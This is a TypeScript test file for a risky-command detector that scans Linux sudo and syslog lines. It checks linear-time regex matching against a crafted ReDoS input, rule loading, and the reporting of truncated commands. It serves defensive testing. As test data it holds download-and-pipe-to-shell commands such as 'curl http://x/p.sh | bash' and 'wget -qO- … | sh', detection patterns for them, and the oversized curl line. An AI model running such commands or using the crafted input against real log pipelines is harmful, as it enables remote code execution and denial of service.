// Issue 13, item 1: the risky-command rules run on a linear-time engine. On
// JavaScript's backtracking engine msticpy's default rules take exponential
// time: one ~5 KB sudo line (`COMMAND=/usr/bin/curl curl …`, which any local
// user can get logged) stalled Node-RED for 7.6 s.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { DEFAULT_MAX_COMMAND_LENGTH, RiskyCommandStream, RulesError, checkCommand, loadRules, riskyCommands, riskyCommandsCompat } from '../../../src/lib/linux';
import { assertLinear, KB } from '../../support/linear-time';

const DEFAULT_RULES = loadRules('');
/** The attack: curl, then a long tail with no pipe into a shell. */
const curlLine = (size: number) => ('/usr/bin/curl curl ' + 'curl '.repeat(Math.ceil(size / 5))).slice(0, size);
/** Against `.*(mv.*\/dev\/null).*`: many `mv`, never `/dev/null`. */
const mvLine = (size: number) => ('mv ' + 'mv /dev/nul'.repeat(Math.ceil(size / 11))).slice(0, size);
const allRules = (line: string) => DEFAULT_RULES.forEach((r) => r.regex.test(line));

test('default rules on the issue attack line: 1 KB → 2 KB at most 2.5× (backtracking: about 9×), then linear from 256 KB to 1 MB', () => {
  // Small sizes first: on a backtracking engine they already fail, in about a second.
  assertLinear('curl line, small', curlLine, allRules, { sizes: [1 * KB, 2 * KB], reps: 50 });
  assertLinear('curl line', curlLine, allRules);
  assertLinear('mv line', mvLine, allRules);
});

test('the issue attack line of 5 KB finds no rule (no pipe into a shell), and the same line with `| sh` is flagged', () => {
  const line = curlLine(5 * KB);
  assert.deepEqual(checkCommand(DEFAULT_RULES, line).hits, []);
  assert.deepEqual(checkCommand(DEFAULT_RULES, `${line} | sh`).hits, [1]);
});

test('every default rule and the shipped custom rules (squid, apt.get, pam_unix) compile; Python named groups work', () => {
  assert.equal(DEFAULT_RULES.length, 5);
  const custom = loadRules(JSON.stringify({ Syslog: ['.*squid.*', '.*apt.get.*', '.*pam_unix.*'] }));
  assert.deepEqual(custom.map((r) => r.regex.test('sudo apt-get install squid')), [true, true, false]);
  const [named] = loadRules(JSON.stringify({ Syslog: ['(?P<tool>wget|curl) .*\\|\\s*(?P<shell>ba)?sh'] }));
  assert.equal(named.regex.test('curl http://x/p.sh | bash'), true);
  assert.equal(named.regex.exec('wget -qO- http://x/p.sh | sh')?.groups?.tool, 'wget');
  assert.equal(named.regex.test('sudo curl http://x/p.sh | sh'), false, 're.match: anchored at the start');
});

test('a rule RE2 cannot run (backreference, lookaround) is refused with an error naming the rule', () => {
  const rules = JSON.stringify({ Syslog: ['.*bash.*', '(?P<w>ab)(?P=w)'] });
  assert.throws(() => loadRules(rules), (e: Error) => e instanceof RulesError && e.message.includes('rules Syslog[1] "(?P<w>ab)(?P=w)"') && /RE2/.test(e.message));
  assert.throws(() => loadRules('["(?<=sudo )rm"]'), /rules Syslog\[0\] "\(\?<=sudo \)rm" is not a valid regex/);
  assert.throws(() => loadRules('["(\\\\w+) \\\\1"]'), /rules Syslog\[0\]/);
});

test('RE2 differs from Python where documented: \\d \\w \\s are ASCII; `.` refuses only \\n; a lone surrogate hides nothing', () => {
  const [digit, word, space, dot] = loadRules('["\\\\d", "\\\\w", "a\\\\sb", "a.b"]');
  assert.equal(digit.regex.test('٣'), false, 'Arabic-Indic digit: Python matches, RE2 does not');
  assert.equal(word.regex.test('é'), false);
  assert.equal(space.regex.test('a\u00a0b'), false);
  assert.equal(dot.regex.test('a\rb'), true);
  assert.equal(dot.regex.test('a\nb'), false);
  const curl = DEFAULT_RULES[1];
  assert.equal(curl.regex.test('\ud800 curl http://x/p | sh'), true, 'text after a lone surrogate is still matched');
});

test('commands longer than the limit: rules see the start only and the cut is reported (stream, batch, compat)', () => {
  const long = `/bin/bash -c ${'x'.repeat(3000)}`;
  const hidden = `${'x'.repeat(3000)} | /bin/bash`;
  const stream = new RiskyCommandStream({ rules: DEFAULT_RULES, commandField: 'Command', speedEvents: 10, speedSeconds: 5, maxLength: 1024 });
  const found = stream.push({ TimeGenerated: '2026-12-06T10:00:00Z', Computer: 'h', Command: long });
  assert.deepEqual(found.map((f) => f.kind), ['risky', 'truncated']);
  assert.deepEqual([found[0].kind === 'risky' && found[0].truncated, found[1].kind === 'truncated' && [found[1].commandLength, found[1].limit]], [true, [long.length, 1024]]);
  const cut = stream.push({ TimeGenerated: '2026-12-06T10:00:01Z', Computer: 'h', Command: hidden });
  assert.deepEqual(cut.map((f) => f.kind), ['truncated'], 'a rule match past the limit is not seen, but the cut is');
  const rows = [{ TimeGenerated: '2026-12-06T10:00:00Z', Command: long }];
  assert.deepEqual(riskyCommands(rows, DEFAULT_RULES, 'Command', { maxLength: 1024 }).map((m) => [m.truncated, m.commandLength]), [[true, long.length]]);
  assert.deepEqual(riskyCommandsCompat(rows, DEFAULT_RULES, 'Command', { maxLength: 1024 }), { '2026-12-06T10:00:00Z': long });
  assert.equal(DEFAULT_MAX_COMMAND_LENGTH, 65_536);
  assert.equal(checkCommand(DEFAULT_RULES, 'x'.repeat(65_536)).cutFrom, undefined);
  assert.equal(checkCommand(DEFAULT_RULES, 'x'.repeat(65_537)).cutFrom, 65_537);
});
